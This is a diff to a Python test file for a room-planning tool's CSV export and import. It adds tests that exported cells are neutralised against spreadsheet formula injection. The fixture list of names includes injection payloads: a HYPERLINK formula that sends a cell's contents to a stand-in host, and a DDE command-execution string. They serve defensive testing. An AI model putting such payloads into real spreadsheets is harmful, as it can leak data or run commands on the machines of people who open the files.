@@ -9,9 +9,11 @@ import pytest
 from shared.small_plans import make_plan
 
 from planner import formats
+from planner.check import Window
 from planner.core.spreadsheet import FORMULA, inert, original
-from planner.design.placement import place
+from planner.design.placement import given, place
 from planner.hall.floor import Lengths, Slack
+from planner.studies.verification import windows_of
 
 NAMES = ('=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "'=1", "＝1+1", "plain", "'quoted'")
 
@@ -62,6 +64,22 @@ def test_a_schedule_is_read_back_as_a_layout(plan, tmp_path):
     lengths = Lengths(plan.room, plan.catalog.cabinet, Slack())
     again = place(plan.topology, plan.catalog, lengths, seed=1, algorithm="manual", layout=path, bounds=False)
     assert again.slot.tolist() == plan.placement.slot.tolist()
+
+
+def test_places_are_read_back(plan, tmp_path):
+    path, devices = tmp_path / "places.csv", plan.inventory.names.tolist()
+    given.Places.of(plan.placement).write(path, devices, plan.room, [False] * len(devices))
+    cells = [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in FORMULA and cell and not number(cell)]
+    again, _ = given.read(path, plan.inventory, plan.room)
+    assert again.slot.tolist() == plan.placement.slot.tolist()
+    assert again.unit.tolist() == plan.placement.unit.tolist()
+
+
+def test_windows_are_read_back(tmp_path):
+    path = tmp_path / "windows.csv"
+    path.write_text("window,action,a_device,a_port,b_device,b_port\n0,put in,'=1,1,'@a,data/2\n", encoding="utf-8")
+    assert windows_of(path) == (Window(0, (), (frozenset({("=1", 1), ("@a", 2)}),)),)
 
 
 @pytest.mark.parametrize("text", [*NAMES, "", "'", "''", "''=", "=", "-5", "-5x", "−1"])
